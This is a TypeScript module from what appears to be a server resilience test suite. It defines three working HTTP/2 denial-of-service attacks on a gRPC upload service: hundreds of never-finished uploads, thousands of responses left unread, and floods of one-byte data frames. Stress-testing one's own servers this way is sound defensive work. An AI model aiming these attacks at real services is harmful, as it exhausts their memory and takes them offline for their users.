import { connect } from "node:http2";
import { setTimeout as wait } from "node:timers/promises";
import { Code } from "@connectrpc/connect";
import { envelope, frame, frameFlags, frameTypes } from "../http2-frames.ts";
import { methods } from "../methods.ts";
import { openRawHttp2 } from "../raw-http2.ts";
import { type Attack, tally } from "../target.ts";

const unfinishedCalls = 900;
const messageBytes = 500 * 1024;
const missingBytes = 100;
/** Less than `requestTimeoutMs` under attack, so that the server still buffers the requests. */
const sendingMs = 4_000;

/** The memory limit of Node's client for one connection, in MB, large enough for all bodies. */
const clientSessionMegabytes = 10_000;

/** 900 upload chunks on one connection, each without its last hundred bytes: 460 MB that cannot be decoded. */
export const unfinishedBodies: Attack = async (target) => {
  const session = connect(target.url, { maxSessionMemory: clientSessionMegabytes });
  session.on("error", () => {});
  const body = envelope(0, Buffer.alloc(messageBytes)).subarray(0, -missingBytes);
  const endings = new Map<number, string>();
  try {
    for (let call = 0; call < unfinishedCalls; call++) {
      const stream = session.request({
        ":method": "POST",
        ":path": methods.uploadChunk,
        "content-type": "application/grpc",
        te: "trailers",
      });
      const onStatus = (fields: Record<string, unknown>) => {
        const status = fields["grpc-status"];
        if (status !== undefined) endings.set(call, Code[Number(status)] ?? `status ${status}`);
      };
      stream.on("error", () => {});
      stream.on("response", onStatus);
      stream.on("trailers", onStatus);
      stream.resume();
      stream.write(body);
    }
    await wait(sendingMs);
  } finally {
    session.destroy();
  }
  return tally(Array.from({ length: unfinishedCalls }, (_, call) => endings.get(call) ?? "buffered"));
};

const unreadConnections = 30;
const unreadCalls = 900;
const bufferedMs = 4_000;

/** 27,000 responses of 50 KB each, on thirty connections that do not read. */
export const unreadAnswers: Attack = async (target) => {
  using connections = new DisposableStack();
  const empty = envelope(0, new Uint8Array(0));
  for (let count = 0; count < unreadConnections; count++) {
    const raw = connections.use(await openRawHttp2(target, { reads: false }));
    const request = (_: unknown, call: number) => raw.request(2 * call + 1, methods.listInstruments, { body: empty });
    await raw.send(Buffer.concat(Array.from({ length: unreadCalls }, request)));
  }
  await wait(bufferedMs);
  return { unread: unreadConnections * unreadCalls };
};

const tinyFrameStreams = 4;
const tinyFrameBytes = 500_000;
const tinyFramesAtOnce = 1_000;

/** Upload messages with each byte in a separate frame, without the last byte: 20 MB of frames. */
export const tinyFrames: Attack = async (target) => {
  using raw = await openRawHttp2(target);
  const streams = Array.from({ length: tinyFrameStreams }, (_, index) => 2 * index + 1);
  for (const stream of streams) {
    await raw.send(raw.request(stream, methods.upload));
    await raw.send(frame(frameTypes.data, frameFlags.none, stream, envelope(0, Uint8Array.of(0), tinyFrameBytes)));
  }
  const floods = streams.map((stream) =>
    Buffer.concat(
      Array<Buffer>(tinyFramesAtOnce).fill(frame(frameTypes.data, frameFlags.none, stream, Uint8Array.of(0))),
    ),
  );
  for (let sent = 0; sent + tinyFramesAtOnce < tinyFrameBytes && raw.isOpen(); sent += tinyFramesAtOnce) {
    for (const flood of floods) await raw.send(flood);
  }
  await wait(bufferedMs);
  return tally(streams.map((stream) => raw.answers.get(stream) ?? raw.resets.get(stream) ?? "buffered"));
};
